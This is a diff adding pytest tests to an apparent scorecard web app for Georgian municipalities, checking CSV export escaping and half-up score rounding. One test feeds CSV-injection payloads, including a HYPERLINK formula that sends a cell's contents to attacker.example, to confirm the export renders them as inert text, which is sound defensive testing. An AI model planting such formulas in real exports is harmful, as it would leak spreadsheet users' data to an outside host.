@@ -7,6 +7,7 @@ in 2021 Telavi's external assessment scores 80.0 (self 56.7) and Sighnaghi's 57.
 import csv
 import io
 import re
+from decimal import Decimal
 
 import pytest
 
@@ -17,6 +18,7 @@ from assessments.workflow import Status
 from indicators.models import MethodologyVersion
 from musqat.georgian import has_mtavruli
 from tests import factories
+from tests.conftest import NA
 
 PAGES = [
     "",
@@ -416,6 +418,39 @@ def test_the_english_csv_gives_the_evidence_in_english(client, published_2021):
 
     assert rows[3][11] == "The standard was adopted by the council"
     assert rows[4][11] == "We visited 12 of 20 villages"
+
+
+@pytest.mark.parametrize(
+    "evidence",
+    ['=HYPERLINK("https://attacker.example/?"&A1,"Source")', "+1+1", "-2+3", "@SUM(A1:A9)"],
+)
+def test_the_csv_writes_evidence_that_looks_like_a_formula_as_inert_text(
+    client, telavi, cycle_2021, cso, publish, evidence
+):
+    assessment = factories.assessment(telavi, cycle_2021, "external", organization=cso)
+    publish(
+        assessment,
+        {"A.1.1": 1, "A.2.1": 60, "B.1.1": 8},
+        texts={"A.2.1": {"evidence": evidence, "evidence_en": evidence}},
+    )
+
+    _response, rows = download(client, "/en/scorecards/2021/telavi/data.csv")
+
+    a21 = next(row for row in rows if row[2] == "A.2.1")
+    assert a21[11] == f"'{evidence}"
+
+
+def test_the_csv_rounds_scores_half_up_as_the_rest_of_the_site(
+    client, telavi, cycle_2021, cso, publish
+):
+    """A.2.1 at 12.345 % scores 12.345: half up it is 12.35 (half to even, 12.34)."""
+    assessment = factories.assessment(telavi, cycle_2021, "external", organization=cso)
+    publish(assessment, {"A.1.1": 1, "A.2.1": Decimal("12.345"), "B.1.1": NA("no service")})
+
+    _response, rows = download(client, "/en/scorecards/2021/telavi/data.csv")
+
+    a21 = next(row for row in rows if row[2] == "A.2.1")
+    assert a21[6:11] == ["12.345", "no", "12.35", "12.35", "56.17"]
 
 
 # --- Comparing municipalities ------------------------------------------------------------
